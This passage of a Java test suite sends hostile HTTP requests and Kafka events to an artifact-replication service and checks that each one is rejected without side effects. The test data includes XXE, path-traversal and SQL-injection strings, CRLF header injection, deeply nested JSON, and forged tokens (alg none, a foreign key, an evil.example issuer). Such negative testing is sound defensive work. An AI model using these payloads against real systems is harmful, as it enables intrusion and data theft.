                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"datacontenttype\":\"text/xml\",\"data\":"
                        + data + "}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":\"" + data.replace("\"", "\\\"")
                        + "\"}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":[" + data + "]}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":null}",
                "{\"specversion\":1.0,\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}",
                "{\"specversion\":\"1.0\",\"id\":7,\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"id\":\"b\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}{}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":"
                        + "[".repeat(5000) + "]".repeat(5000) + "}",
                "{\"specversion\":\"1.0\",\"id\":\"a\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":"
                        + data.replace("}", ",\"extra\":\"x\"}") + "}");
        for (int index = 0; index < badStructured.size(); index++) {
            requests.add(raw("structured event #" + index, "POST", "/v1/events",
                    List.of(header("Content-Type", "application/cloudevents+json")), badStructured.get(index).getBytes(UTF_8), Set.of(400),
                    false));
        }
        for (String body : List.of("not json", "null", "[]", "{}", data.replace("}", ",\"extra\":\"x\"}"),
                data.replace("\"project\":", "\"project\":\"a\",\"project\":"), "{\"project\":" + "[".repeat(5000) + "]".repeat(5000) + "}")) {
            requests.add(raw("binary event data " + printable(body), "POST", "/v1/events", List.of(header("Content-Type", "application/json"),
                    header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"),
                    header("ce-type", "roam.checkpoint.saved")), body.getBytes(UTF_8), Set.of(400), false));
        }
        Map<String, String> eventLabels = new LinkedHashMap<>();
        IntStream.range(0, 33).forEach(index -> eventLabels.put("label-" + index, "x"));
        requests.add(binaryEvent("event with 33 labels", eventData(project, run, "v1", validSource, eventLabels), "roam.checkpoint.saved", 400));
        requests.add(binaryEvent("event label value with CR LF", eventData(project, run, "v1", validSource, Map.of("step", "1\r\nforged")),
                "roam.checkpoint.saved", 400));

        // Content types and methods.
        requests.add(raw("text/plain replication", "POST", "/v1/replications", List.of(header("Content-Type", "text/plain")),
                valid.getBytes(UTF_8), Set.of(415), false));
        requests.add(raw("form-encoded replication", "POST", "/v1/replications",
                List.of(header("Content-Type", "application/x-www-form-urlencoded")), ("project=" + project).getBytes(UTF_8), Set.of(415), false));
        requests.add(raw("XML replication", "POST", "/v1/replications", List.of(header("Content-Type", "application/xml")),
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(UTF_8), Set.of(415), false));
        requests.add(raw("text/plain event", "POST", "/v1/events", List.of(header("Content-Type", "text/plain"),
                header("ce-specversion", "1.0"), header("ce-id", "a"), header("ce-source", "/t"), header("ce-type", "roam.checkpoint.saved")),
                data.getBytes(UTF_8), Set.of(415), false));
        requests.add(raw("PUT replications", "PUT", "/v1/replications", List.of(header("Content-Type", "application/json")),
                valid.getBytes(UTF_8), Set.of(405), false));
        requests.add(raw("PATCH a policy", "PATCH", "/v1/policies/" + UUID.randomUUID(), List.of(header("Content-Type", "application/json")),
                "{}".getBytes(UTF_8), Set.of(405), false));
        requests.add(raw("DELETE artifacts", "DELETE", "/v1/artifacts/" + UUID.randomUUID(), List.of(), null, Set.of(405), false));

        // Paths and query parameters of the reads and deletes.
        String unknown = UUID.randomUUID().toString();
        for (String path : List.of(
                "/v1/transfers/" + unknown,
                "/v1/transfers/not-a-uuid",
                "/v1/transfers/..%2F..%2Fq%2Fmetrics",
                "/v1/transfers/%2e%2e",
                "/v1/transfers/" + unknown + "%00",
                "/v1/transfers/" + unknown + "'%20OR%20'1'='1",
                "/v1/artifacts/" + unknown,
                "/v1/artifacts/" + unknown + "/replicas",
                "/v1/artifacts/" + unknown + "/manifest",
                "/v1/artifacts/" + unknown + "/resolve?near=lab-s3",
                "/v1/artifacts/%252e%252e/replicas",
                "/v1/artifacts/..%5c..%5cetc%5cpasswd",
                "/v1/policies/" + unknown,
                "/v1/policies/1%20OR%201=1",
                "/v1/../../etc/passwd",
                "/v1/artifacts/%c0%ae%c0%ae/replicas",
                "/v1/nothing-here")) {
            requests.add(get("GET " + path, path, 404));
        }
        for (String path : List.of("/v1/transfers/" + unknown, "/v1/transfers/not-a-uuid", "/v1/transfers/..%2F" + unknown,
                "/v1/policies/" + unknown, "/v1/policies/%2e%2e")) {
            requests.add(raw("DELETE " + path, "DELETE", path, List.of(), null, Set.of(404), false));
        }
        requests.add(raw("verify an unknown replica", "POST", "/v1/artifacts/" + unknown + "/replicas/" + UUID.randomUUID() + "/verification",
                List.of(header("Content-Type", "application/json")), new byte[0], Set.of(404), false));
        requests.add(raw("verify with ids that are not", "POST", "/v1/artifacts/x/replicas/..%2F..%2F/verification",
                List.of(header("Content-Type", "application/json")), new byte[0], Set.of(404), false));
        for (String query : List.of("limit=0", "limit=-1", "limit=501", "limit=99999999999", "limit=abc", "limit=1e3",
                "kind=weights", "kind=%27%20OR%201%3D1", "label=no-equals-sign", "label==value",
                "cursor=garbage", "cursor=%27%20OR%201%3D1%20--", "cursor=" + base64("1:2:3"),
                "cursor=" + base64("99999999999999999999:0:" + unknown), "cursor=" + base64("a:b:c:d"))) {
            requests.add(get("artifact listing " + query, "/v1/artifacts?" + query, 400, 404));
        }
        for (String query : List.of("", "project=" + project, "project=" + project + "&kind=weights&name=" + run,
                "project=" + project + "&kind=checkpoint")) {
            requests.add(get("latest " + query, "/v1/artifacts/latest?" + query, 400));
        }
        for (String query : List.of("limit=0", "limit=10001", "limit=-5", "limit=x")) {
            requests.add(get("manifest " + query, "/v1/artifacts/" + unknown + "/manifest?" + query, 400, 404));
        }
        requests.add(get("resolve near nothing", "/v1/artifacts/" + unknown + "/resolve", 400));
        requests.add(get("policies without a project", "/v1/policies", 400));

        requests.addAll(requestsWithoutAValidToken());
        return requests;
    }

    /** Every guarded endpoint, called with every kind of credentials that must not open it. */
    private List<HostileRequest> requestsWithoutAValidToken() throws JsonProcessingException {
        TokenIssuer tokens = RoamUnderTest.tokens();
        Map<String, ProjectRole> everyProject = Map.of(TokenIssuer.EVERY_PROJECT, ProjectRole.ADMIN);
        List<Credentials> unauthenticated = List.of(
                new Credentials("no token", List.of(), ""),
                new Credentials("an empty bearer token", List.of(header("Authorization", "Bearer ")), ""),
                new Credentials("the Basic scheme", List.of(header("Authorization",
                        "Basic " + Base64.getEncoder().encodeToString(bytes("roam-admin:admin")))), ""),
                bearer("a token that is no token", "not-a-token"),
                bearer("a token that is three dots", "..."),
                bearer("an expired token", tokens.token("hostile").projects(everyProject).expired().sign()),
                bearer("a token for another audience", tokens.token("hostile").projects(everyProject).audience("another-service").sign()),
                bearer("a token of another issuer", tokens.token("hostile").projects(everyProject).issuer("https://idp.evil.example").sign()),
                bearer("a token signed by a foreign key, granting every project",
                        new TokenIssuer(Duration.ofHours(1)).sign("hostile", everyProject)),
                bearer("an unsigned token (alg none), granting every project", tokens.token("hostile").projects(everyProject).unsigned()),
                bearer("an API token never issued", "roam_" + randomBase64Url()),
                bearer("a revoked API token", revokedApiToken()),
                new Credentials("an admin token in the query string", List.of(), "access_token=" + RoamUnderTest.adminToken()));
        Credentials otherProject = bearer("an admin token of another project",
                tokens.sign("hostile", Map.of("other-" + marker, ProjectRole.ADMIN)));
        Credentials reader = bearer("a reader token of the project", tokens.sign("hostile", Map.of(project, ProjectRole.READER)));

        List<HostileRequest> requests = new ArrayList<>();
        for (GuardedEndpoint endpoint : guardedEndpoints()) {
            for (Credentials credentials : unauthenticated) {
                requests.add(presenting(credentials, endpoint, 401));
            }
            if (endpoint.otherProjectStatus() != null) {
                requests.add(presenting(otherProject, endpoint, endpoint.otherProjectStatus()));
            }
            if (endpoint.method().equals("POST")) {
                requests.add(presenting(reader, endpoint, 403));
            }
        }
        return requests;
    }

    private List<GuardedEndpoint> guardedEndpoints() throws JsonProcessingException {
        List<Map.Entry<String, byte[]>> json = List.of(header("Content-Type", "application/json"));
        List<Map.Entry<String, byte[]>> event = List.of(header("Content-Type", "application/json"), header("ce-specversion", "1.0"),
                header("ce-id", UUID.randomUUID().toString()), header("ce-source", "/training/" + run),
                header("ce-type", "roam.checkpoint.saved"));
        return List.of(
                new GuardedEndpoint("a replication", "POST", "/v1/replications", json,
                        JSON.writeValueAsBytes(replication(project, "checkpoint", run, "v1", validSource, List.of(validTarget), null)), 403),
                new GuardedEndpoint("a staging", "POST", "/v1/stagings", json,
                        JSON.writeValueAsBytes(staging(project, run, validSource, validTarget)), 403),
                new GuardedEndpoint("a policy", "POST", "/v1/policies", json,
                        JSON.writeValueAsBytes(policy(project, List.of(validTarget + "{run}/"), 2)), 403),
                new GuardedEndpoint("a training event", "POST", "/v1/events", event,
                        JSON.writeValueAsBytes(eventData(project, run, "v1", validSource, null)), 403),
                new GuardedEndpoint("an API token for every project", "POST", "/v1/tokens", json,
                        JSON.writeValueAsBytes(Map.of("name", "forged-" + marker, "projects", Map.of("*", "admin"))), 403),
                new GuardedEndpoint("the project's artifacts", "GET", "/v1/artifacts?project=" + project, List.of(), null, 403),
                new GuardedEndpoint("the project's latest artifact", "GET",
                        "/v1/artifacts/latest?project=" + project + "&kind=checkpoint&name=" + run, List.of(), null, 403),
                new GuardedEndpoint("the project's policies", "GET", "/v1/policies?project=" + project, List.of(), null, 403),
                new GuardedEndpoint("an artifact", "GET", "/v1/artifacts/" + UUID.randomUUID(), List.of(), null, 404),
                new GuardedEndpoint("a transfer's cancellation", "DELETE", "/v1/transfers/" + UUID.randomUUID(), List.of(), null, 404),
                new GuardedEndpoint("a policy's deletion", "DELETE", "/v1/policies/" + UUID.randomUUID(), List.of(), null, 404),
                new GuardedEndpoint("the API tokens", "GET", "/v1/tokens", List.of(), null, null));
    }

    private static HostileRequest presenting(Credentials credentials, GuardedEndpoint endpoint, int status) {
        String path = credentials.queryParameter().isEmpty() ? endpoint.path()
                : endpoint.path() + (endpoint.path().contains("?") ? "&" : "?") + credentials.queryParameter();
        List<Map.Entry<String, byte[]>> headers = new ArrayList<>(endpoint.headers());
        headers.addAll(credentials.headers());
        return exactly(endpoint.description() + " with " + credentials.description(), endpoint.method(), path, headers, endpoint.body(),
                Set.of(status), false);
    }

    private static Credentials bearer(String description, String token) {
        return new Credentials(description, List.of(header("Authorization", "Bearer " + token)), "");
    }

    /** An API token that was admin of the project until it was revoked. */
    private String revokedApiToken() {
        JsonPath issued = gateway().contentType(ContentType.JSON)
                .body(Map.of("name", "revoked-" + marker, "projects", Map.of(project, "admin")))
                .post("/v1/tokens").then().statusCode(201).extract().jsonPath();
        gateway().delete("/v1/tokens/{id}", issued.getString("details.id")).then().statusCode(204);
        return issued.getString("token");
    }

    private static String randomBase64Url() {
        byte[] secret = new byte[32];
        new SecureRandom().nextBytes(secret);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(secret);
    }

    private List<HostileEvent> hostileEvents() throws JsonProcessingException {
        List<HostileEvent> events = new ArrayList<>();
        Map<String, byte[]> attributes = Map.of("ce_specversion", bytes("1.0"), "ce_source", bytes("/training/" + run),
                "ce_type", bytes("roam.checkpoint.saved"), "content-type", bytes("application/json"));
        for (String location : hostileLocations()) {
            events.add(binaryEventRecord(events, "uri " + location, attributes, JSON.writeValueAsString(eventData(project, run, "v1", location, null))));
        }
        for (String injection : INJECTIONS) {
            events.add(binaryEventRecord(events, "project " + printable(injection), attributes,
                    JSON.writeValueAsString(eventData(injection, run, "v1", validSource, null))));
            events.add(binaryEventRecord(events, "version " + printable(injection), attributes,
                    JSON.writeValueAsString(eventData(project, run, injection, validSource, null))));
            Map<String, byte[]> badType = new HashMap<>(attributes);
            badType.put("ce_type", bytes(injection));
            events.add(binaryEventRecord(events, "type " + printable(injection), badType,
                    JSON.writeValueAsString(eventData(project, run, "v1", validSource, null))));
        }
        String data = JSON.writeValueAsString(eventData(project, run, "v1", validSource, null));
        List<Map<String, byte[]>> badAttributes = new ArrayList<>();
        for (String missing : List.of("ce_specversion", "ce_source", "ce_type")) {
            Map<String, byte[]> without = new HashMap<>(attributes);
            without.remove(missing);
            badAttributes.add(without);
        }
        for (Map.Entry<String, String> wrong : List.of(Map.entry("ce_specversion", "0.3"), Map.entry("ce_specversion", ""),
                Map.entry("ce_source", ""), Map.entry("ce_source", "/t\r\nforged"), Map.entry("ce_time", "not a time"),
                Map.entry("ce_subject", "s\nforged"), Map.entry("content-type", "text/plain"), Map.entry("content-type", "application/xml"))) {
            Map<String, byte[]> changed = new HashMap<>(attributes);
            changed.put(wrong.getKey(), bytes(wrong.getValue()));
            badAttributes.add(changed);
        }
        for (Map<String, byte[]> headers : badAttributes) {
            events.add(binaryEventRecord(events, "attributes " + headers.keySet(), headers, data));
        }
        Map<String, byte[]> withBadId = new HashMap<>(attributes);
        withBadId.put("ce_id", new byte[] {'a', 0, '\r', '\n'});
        events.add(record(events, "id with control characters", withBadId, bytes(data)));
        events.add(record(events, "a tombstone (no value)", withId(attributes), null));
        events.add(record(events, "an empty value", withId(attributes), new byte[0]));
        events.add(record(events, "overlong UTF-8 data", withId(attributes), concat(bytes("{\"project\":\""),
                new byte[] {(byte) 0xC0, (byte) 0xAE, (byte) 0xC0, (byte) 0xAE}, bytes("\"}"))));
        events.add(record(events, "data of 500 KB", withId(attributes),
                bytes(data.replace("\"project\":", "\"labels\":{\"big\":\"" + "x".repeat(500_000) + "\"},\"project\":"))));
        events.add(record(events, "deeply nested data", withId(attributes), bytes("{\"project\":" + "[".repeat(50_000) + "]".repeat(50_000) + "}")));
        events.add(record(events, "duplicate keys in data", withId(attributes),
                bytes(data.replace("\"project\":", "\"project\":\"other\",\"project\":"))));
        events.add(record(events, "unknown property in data", withId(attributes), bytes(data.replace("}", ",\"endpoint\":\"http://evil\"}"))));
        events.add(record(events, "data of the wrong types", withId(attributes),
                bytes("{\"project\":1,\"run\":[],\"version\":{},\"uri\":true,\"labels\":\"x\"}")));
        Map<String, String> tooMany = new LinkedHashMap<>();
        IntStream.range(0, 33).forEach(index -> tooMany.put("l" + index, "x"));
        events.add(record(events, "33 labels", withId(attributes), bytes(JSON.writeValueAsString(eventData(project, run, "v1", validSource,
                tooMany)))));
        Map<String, byte[]> structured = Map.of("content-type", bytes("application/cloudevents+json"));
        for (String body : List.of("not json", "[]", "null",
                "{\"specversion\":\"1.0\",\"id\":\"x\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data_base64\":\"e30=\"}",
                "{\"specversion\":\"1.0\",\"id\":\"x\",\"id\":\"y\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}",
                "{\"specversion\":\"1.0\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":" + data + "}",
                "{\"specversion\":\"1.0\",\"id\":\"x\",\"source\":\"/t\",\"type\":\"roam.checkpoint.saved\",\"data\":"
                        + "[".repeat(50_000) + "]".repeat(50_000) + "}")) {
            events.add(record(events, "structured " + printable(body), structured, bytes(body)));
        }
        return events;
    }

    // ---------------------------------------------------------------- side effects

    private void assertNoSideEffect(SoftAssertions softly) throws IOException {
        softly.assertThat(artifactIds(project)).as("artifacts registered for the hostile project").isEmpty();
        softly.assertThat(gateway().queryParam("name", run).get("/v1/artifacts").then().statusCode(200).extract()
                .jsonPath().getList("artifacts.id")).as("artifacts registered under the hostile run name").isEmpty();
        softly.assertThat(gateway().queryParam("project", project).get("/v1/policies").then().statusCode(200).extract()
                .jsonPath().getList("$")).as("policies stored for the hostile project").isEmpty();
        softly.assertThat(gateway().get("/v1/tokens").then().statusCode(200).extract().jsonPath().<String>getList("name"))
                .as("API tokens issued and not revoked").noneMatch(name -> name.contains(marker));
        softly.assertThat(kafka.records(Topics.TRANSFER_REQUESTS)).as("transfer requests published")
                .noneMatch(record -> record.value() != null && record.value().contains(marker));
        try (Stream<Path> files = Files.walk(RoamUnderTest.WORK_DIRECTORY)) {
            softly.assertThat(files.filter(path -> path.toString().contains(escape) || path.toString().contains("/" + marker + "/")))
                    .as("files written").isEmpty();
        }
    }

    private static List<String> artifactIds(String project) {
        return gateway().queryParam("project", project).get("/v1/artifacts").then().statusCode(200).extract().path("artifacts.id");
    }

    // ---------------------------------------------------------------- building requests and events

    private static Map<String, Object> replication(String project, String kind, String name, String version, String source,
            List<String> targets, Map<String, String> labels) {
        Map<String, Object> artifact = new LinkedHashMap<>();
        artifact.put("kind", kind);
        artifact.put("name", name);
        artifact.put("version", version);
        if (labels != null) {
            artifact.put("labels", labels);
        }
        Map<String, Object> request = new LinkedHashMap<>();
        request.put("project", project);
        request.put("artifact", artifact);
        request.put("source", source);
        request.put("targets", targets);
        return request;
    }

    private static Map<String, Object> staging(String project, String version, String source, String target) {
        Map<String, Object> request = new LinkedHashMap<>();
        request.put("project", project);
        request.put("artifact", Map.of("kind", "dataset", "name", "data", "version", version));
        request.put("source", source);
        request.put("target", target);
        return request;
    }

    private static Map<String, Object> policy(String project, List<String> targets, int keepLast) {
        Map<String, Object> policy = new LinkedHashMap<>();
        policy.put("project", project);
        policy.put("name", "hostile");
        policy.put("kinds", List.of("checkpoint"));
        policy.put("namePattern", "*");
        policy.put("targets", targets);
        policy.put("keepLast", keepLast);
        return policy;
    }

    private Map<String, Object> policyWithPattern(String project, String pattern) {
        Map<String, Object> policy = policy(project, List.of(validTarget + "{run}/"), 2);
        policy.put("namePattern", pattern);
        return policy;
    }

    private static Map<String, Object> eventData(String project, String run, String version, String uri, Map<String, String> labels) {
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("project", project);
        data.put("run", run);
        data.put("version", version);
        data.put("uri", uri);
        if (labels != null) {
            data.put("labels", labels);
        }
        return data;
    }

    private static HostileRequest json(String description, String method, String path, Object body, int status)
            throws JsonProcessingException {
        return raw(description, method, path, List.of(header("Content-Type", "application/json")), JSON.writeValueAsBytes(body),
                Set.of(status), status == 413);
    }

    private static HostileRequest binaryEvent(String description, Map<String, Object> data, String type, int status)
            throws JsonProcessingException {
        return raw(description, "POST", "/v1/events", List.of(header("Content-Type", "application/json"), header("ce-specversion", "1.0"),
                header("ce-id", UUID.randomUUID().toString()), header("ce-source", "/training/hostile"),
                header("ce-type", encoded(type))), JSON.writeValueAsBytes(data),
                Set.of(status), false);
    }

    private static HostileRequest get(String description, String path, Integer... statuses) {
        return raw(description, "GET", path, List.of(), null, Set.of(statuses), false);
    }

    /** A request bearing an admin token besides {@code headers}. */
    private static HostileRequest raw(String description, String method, String path, List<Map.Entry<String, byte[]>> headers,
            byte[] body, Set<Integer> statuses, boolean answeredBeforeRouting) {
        List<Map.Entry<String, byte[]>> asAdmin = new ArrayList<>(headers);
        asAdmin.add(header("Authorization", "Bearer " + RoamUnderTest.adminToken()));
        return exactly(description, method, path, asAdmin, body, statuses, answeredBeforeRouting);
    }

    /** A request with exactly {@code headers}. */
    private static HostileRequest exactly(String description, String method, String path, List<Map.Entry<String, byte[]>> headers,
            byte[] body, Set<Integer> statuses, boolean answeredBeforeRouting) {
        return new HostileRequest(description, method, path.getBytes(UTF_8), headers, body, statuses, answeredBeforeRouting);
    }

    private HostileEvent binaryEventRecord(List<HostileEvent> events, String description, Map<String, byte[]> attributes, String data) {
        return record(events, description, withId(attributes), bytes(data));
    }

    private HostileEvent record(List<HostileEvent> events, String description, Map<String, byte[]> headers, byte[] value) {
        return new HostileEvent(description, "hostile/" + marker + "/" + events.size(), value, headers);
    }

    private static Map<String, byte[]> withId(Map<String, byte[]> attributes) {
        Map<String, byte[]> withId = new HashMap<>(attributes);
        withId.putIfAbsent("ce_id", bytes(UUID.randomUUID().toString()));
        return withId;
    }

    private static Map.Entry<String, byte[]> header(String name, String value) {
        return Map.entry(name, value.getBytes(UTF_8));
    }

    private static byte[] chunked(byte[] body) {
        List<byte[]> parts = new ArrayList<>();
        for (int offset = 0; offset < body.length; offset += 8192) {
            int length = Math.min(8192, body.length - offset);
            parts.add(bytes(Integer.toHexString(length) + "\r\n"));
            parts.add(java.util.Arrays.copyOfRange(body, offset, offset + length));
            parts.add(bytes("\r\n"));
        }
        parts.add(bytes("0\r\n\r\n"));
        return concat(parts.toArray(byte[][]::new));
    }

    private static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream joined = new java.io.ByteArrayOutputStream();
        for (byte[] part : parts) {
            joined.writeBytes(part);
        }
        return joined.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, UTF_8).replace("+", "%20");
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().encodeToString(text.getBytes(UTF_8));
    }

    private static String printable(String text) {
        String escaped = text.codePoints().mapToObj(codePoint -> Character.isISOControl(codePoint) ? "\\u%04X".formatted(codePoint)
                : Character.toString(codePoint)).reduce("", String::concat);
        return escaped.length() > 120 ? escaped.substring(0, 120) + "…" : escaped;
    }

    private static String printable(byte[] text) {
        return printable(new String(text, UTF_8));
    }

    private static Integer problemStatus(Answer answer) {
        try {
            JsonNode problem = JSON.readTree(answer.body());
            return problem.path("status").isInt() ? problem.path("status").asInt() : null;
        }
        catch (JsonProcessingException notJson) {
            return null;
        }
    }

    private void send(ProducerRecord<String, byte[]> record) {
        try {
            producer.send(record).get();
        }
        catch (Exception failure) {
            throw new IllegalStateException("could not publish a training event", failure);
        }
    }

    private static String header(ConsumerRecord<String, String> record, String name) {
        return record.headers().lastHeader(name) == null ? null : new String(record.headers().lastHeader(name).value(), UTF_8);
    }
}
